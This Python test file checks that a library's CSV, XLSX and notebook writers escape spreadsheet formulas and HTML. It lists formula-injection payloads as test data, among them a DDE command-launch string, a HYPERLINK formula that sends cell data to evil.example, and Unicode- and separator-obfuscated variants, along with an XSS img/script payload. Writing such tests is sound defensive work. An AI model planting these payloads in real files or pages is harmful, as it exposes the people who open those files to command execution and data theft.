"""What a publisher writes is text for who opens a file of answers, never a formula that runs on their machine."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from pyoxigraph import Literal, NamedNode

from triplewire.model import XSD, Matched, Row
from triplewire.tables import EventLayout, Events, RowLayout, Rows
from triplewire.tables.writers import write

TIME = datetime(2026, 3, 2, 9, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121+1",
    *(f"{unseen}=1+1" for unseen in "\u2060\u00ad\u061c\u180e\u2066\ufe0f\U000e0001\U000e0100"),
)
PARTED = tuple(
    f"{before}{separator}{between}{formula}"
    for separator in (";", "|", "\t", "\r", "\n", "\r\n")
    for before, between in (("", ""), ("a", ""), ("a, b", ""), ("a", " "), ("a", '"'), ('a"', "\u2060"))
    for formula in ("=cmd|' /C calc'!A0", "@SUM(1)")
)
NUMBERS = ("-1", "+1", "-1.5", "-1e5", "-.5")


def written(format: str, layout, items) -> bytes:
    file = io.BytesIO()
    write(file, format, layout, items)
    return file.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("term", [Literal, lambda text: Literal(text, language="en")], ids=["plain", "tagged"])
def test_csv_has_an_apostrophe_before_a_formula(text, term):
    content = written("csv", RowLayout(["x"]), [Row({"x": term(text)})]).decode()
    _, (cell,) = csv.reader(io.StringIO(content, newline=""))
    assert cell == "'" + text


@pytest.mark.parametrize("separator", [",", ";", "|", "\t"])
@pytest.mark.parametrize("text", PARTED)
def test_part_of_a_cell_is_no_formula_for_a_reader_with_another_separator(text, separator):
    row = Row({"x": Literal("x, y"), "y": Literal(text)})
    content = written("csv", RowLayout(["x", "y"]), [row]).decode()
    cells = [cell for line in csv.reader(io.StringIO(content, newline=""), delimiter=separator) for cell in line]
    assert not [cell for cell in cells if cell.lstrip(' "\r\n\t\u2060').startswith(("=", "@"))]


@pytest.mark.parametrize("text", ["a; b", "1;-2", "a|b", "a-b; c=d", "one\ntwo", "x\ty"])
def test_ordinary_text_stays_as_it_is(text):
    content = written("csv", RowLayout(["x"]), [Row({"x": Literal(text)})]).decode()
    assert list(csv.reader(io.StringIO(content, newline="")))[1:] == [[text]]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_that_pretends_to_be_a_number_has_an_apostrophe_too(text):
    bad = Literal(text, datatype=NamedNode(XSD + "integer"))
    content = written("csv", RowLayout(["x"]), [Row({"x": bad})]).decode()
    _, (cell,) = csv.reader(io.StringIO(content, newline=""))
    assert cell == "'" + text


@pytest.mark.parametrize("text", NUMBERS)
def test_number_stays_a_number(text):
    content = written("csv", RowLayout(["x"]), [Row({"x": Literal(text)})])
    assert content.splitlines()[1] == text.encode()


def test_cell_cannot_end_and_begin_another_that_is_a_formula():
    text = 'harmless","=1+1\r\n=2+2,x'
    content = written("csv", RowLayout(["x", "y"]), [Row({"x": Literal(text), "y": Literal(";=3+3")})]).decode()
    assert list(csv.reader(io.StringIO(content, newline="")))[1:] == [[text.replace("\n", "\n'"), ";'=3+3"]]


@pytest.mark.parametrize(
    "text", [*FORMULAS, *PARTED, "https://evil.example/", "mailto:a@evil.example", "internal:Sheet2!A1"]
)
def test_workbook_has_text_and_neither_formula_nor_link(text):
    content = written("xlsx", RowLayout(["x"]), [Row({"x": Literal(text)})])
    (cell,) = (line[0] for line in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not any(b"<f>" in parts.read(name) or b"hyperlink" in parts.read(name) for name in parts.namelist())


def test_name_of_a_column_and_of_a_subscription_are_no_formulas_either():
    event = Matched("=1+1", {}, "@batch", 1, TIME)
    content = written("csv", EventLayout([]), [event]).decode()
    head, line = csv.reader(io.StringIO(content, newline=""))
    told = dict(zip(head, line, strict=True))
    assert (told["subscription"], told["batch"]) == ("'=1+1", "'@batch")
    assert written("csv", RowLayout(["=x"]), []) == b"'=x\r\n"


MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script>&amp;'


@pytest.mark.parametrize(
    "shown",
    [
        Rows([MARKUP], [Row({MARKUP: Literal(MARKUP)})]),
        Rows(["x"], [Row({"x": NamedNode("urn:" + "a")}), Row({"x": Literal(MARKUP, language="en")})]),
        Events([Matched(MARKUP, {"x": Literal(MARKUP)}, MARKUP, 1, TIME)]),
    ],
    ids=["names", "rows", "events"],
)
def test_notebook_shows_markup_as_text(shown):
    html = shown._repr_html_()
    assert "<img" not in html
    assert "<script" not in html
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html
